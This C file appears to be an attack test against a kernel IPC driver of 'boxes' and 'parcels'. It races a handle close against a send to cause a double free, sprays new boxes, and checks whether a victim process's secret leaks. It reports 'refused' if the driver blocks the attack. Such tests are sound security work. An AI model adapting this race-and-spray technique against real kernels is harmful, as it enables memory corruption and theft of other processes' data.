// SPDX-License-Identifier: GPL-2.0-only
/*
 * Close the last handle of a box that is full of parcels: dropping them takes a while, and until
 * that is done the handle can still be found. A send from another process takes a reference where
 * none is left, and gives it back: now that one is the last, and the box is freed. A victim's box
 * comes to lie there, and then the first process, done with the parcels, frees it once more. The
 * attacker's next box is the victim's.
 */
#define _GNU_SOURCE
#include <sched.h>
#include <stdatomic.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

#define TRIES		3
#define NEW_BOXES	50	/* on each processor: as many as lie in some pages */

enum { MAKE, SEND };

/* The victim makes a private box, and later sends its secret to itself. */
static long act(struct victim_state *state, int command)
{
	static __u32 box;

	if (command == MAKE) {
		box = private_box(state->file);
		return 0;
	}
	return parcel_send(state->file, box, state->secret, strlen(state->secret) + 1, NULL, 0);
}

static void run_on(int processor)
{
	cpu_set_t one;

	CPU_ZERO(&one);
	CPU_SET(processor, &one);
	must("choose a processor", sched_setaffinity(0, sizeof(one), &one));
}

static __u32 full_box(int file)
{
	struct parcel_create create = {
		.rights = RIGHTS_ALL,
		.capacity_parcels = PARCEL_MAX_BOX_PARCELS,
	};
	static unsigned int n;
	int i;

	snprintf(create.name, sizeof(create.name), "full-%u", n++);
	must("create a box", device_call(file, PARCEL_IOC_CREATE, &create));
	must("unlink", box_unlink(file, create.handle));
	for (i = 0; i < PARCEL_MAX_BOX_PARCELS; i++)
		must("send", parcel_send(file, create.handle, "x", 1, NULL, 0));
	return create.handle;
}

/* The child's other processor works on while this one sends. */
static pid_t close_aside(int file, __u32 box)
{
	const struct timespec moment = { .tv_nsec = 2 * 1000 * 1000 };
	atomic_int *begun = mmap(NULL, sizeof(*begun), PROT_READ | PROT_WRITE,
				 MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	pid_t child;

	if (begun == MAP_FAILED)
		could_not("mmap: %s", error_name(errno));
	fflush(stdout);
	child = fork();
	if (child < 0)
		could_not("fork: %s", error_name(errno));
	if (!child) {
		run_on(1);
		atomic_store(begun, 1);
		_exit(handle_close(file, box) != 0);
	}
	while (!atomic_load(begun))
		sched_yield();
	nanosleep(&moment, NULL);
	munmap(begun, sizeof(*begun));
	return child;
}

int main(int argc, char **argv)
{
	char secret[SECRET_SIZE], bytes[SECRET_SIZE];
	__u32 box, boxes[2 * NEW_BOXES];
	struct victim victim;
	int file, i, j, status;
	long result = 0;
	pid_t child;

	attack_begin(argc, argv);
	victim_start(&victim, act);
	victim_secret(&victim, secret);
	file = device_open();

	/* A send that succeeds came before the close: that was no try. */
	for (i = 0; i < TRIES; i += result != 0) {
		box = full_box(file);
		child = close_aside(file, box);
		result = parcel_send(file, box, "x", 1, NULL, 0);
		must("let the victim make a box", victim_do(&victim, MAKE));
		must("wait", waitpid(child, &status, 0));
		if (WIFSIGNALED(status))
			_exit(128 + WTERMSIG(status));
		if (result != -EPIPE)
			continue;
		for (j = 0; j < 2 * NEW_BOXES; j++) {
			run_on(j / NEW_BOXES);
			boxes[j] = private_box(file);
		}
		run_on(0);
		must("let the victim send", victim_do(&victim, SEND));
		for (j = 0; j < 2 * NEW_BOXES; j++)
			if (parcel_receive(file, boxes[j], bytes, sizeof(bytes),
					   PARCEL_DONTWAIT) > 0 && !strcmp(bytes, secret))
				achieved("leaks", "%s: \"%s\"",
					 "received from another process's private box", bytes);
	}
	if (result != -EBADF)
		could_not("a send to a handle that is being closed says %s", error_name(result));
	refused("%s as soon as the handle is being closed", error_name(result));
}
